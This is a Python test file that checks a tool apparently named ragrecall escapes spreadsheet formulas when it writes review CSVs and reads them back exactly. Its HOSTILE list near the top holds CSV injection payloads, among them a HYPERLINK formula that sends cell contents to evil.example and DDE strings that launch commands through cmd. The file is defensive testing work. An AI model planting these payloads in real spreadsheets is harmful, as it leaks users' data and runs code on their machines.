"""Hostile and broken inputs (issue 32, items 6, 7, 9, 10, 11, 12, 13): files that would run
code in a spreadsheet stay text, out-of-range profiles and labels are refused naming the file
and field, ids and texts users call the same pair up, quiet wrong answers become usage errors,
and bad input never exits 5 ("a bug in ragrecall")."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest

from ragrecall import read_labels
from ragrecall.cli import main

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
]


def write_jsonl(path: Path, rows: list[dict[str, Any]]) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


@pytest.fixture(autouse=True)
def _claim_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RAGRECALL_CLAIMS_STORE", str(tmp_path / "claims.db"))


def scored(tmp_path: Path, rows: list[dict[str, Any]], name: str = "results") -> Path:
    data = write_jsonl(tmp_path / f"{name}-data.jsonl", rows)
    out = tmp_path / f"{name}.jsonl"
    judge = ["--judge-factory", "fakes:LogprobJudge", "--strategy", "per_claim"]
    assert main(["eval", str(data), *judge, "--claim-mode", "sentences", "--out", str(out)]) == 0
    return out


# --- 6. CSV formula injection ------------------------------------------------------------


def test_review_csv_cells_never_start_a_formula_and_read_back_exactly(tmp_path: Path) -> None:
    rows = [
        {
            "sample_id": f"s{i}",
            "question": text,
            "reference": f"{text} Cats purr {i}.",
            "contexts": [f"{text} Cats purr {i}."],
        }
        for i, text in enumerate(HOSTILE)
    ]
    results = scored(tmp_path, rows)
    folder = tmp_path / "review"
    assert main(["review", str(results), "--out", str(folder), "--random", "100"]) == 0
    table = folder / "review.csv"
    with table.open(newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    starts = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert starts == []
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert any(c.startswith("'@SUM") for c in cells)
    # the JSONL results stay exact, and calibrate reads the CSV back as it was
    written = results.read_text(encoding="utf-8")
    assert json.dumps(HOSTILE[0])[1:-1] in written
    labels = read_labels(table)
    questions = {x.sample_id for x in labels}
    assert questions == {f"s{i}" for i in range(len(HOSTILE))}
    claims = {x.claim for x in labels}
    assert any(c.startswith("=HYPERLINK") for c in claims)
    assert any(c.startswith("'=1+1") for c in claims)
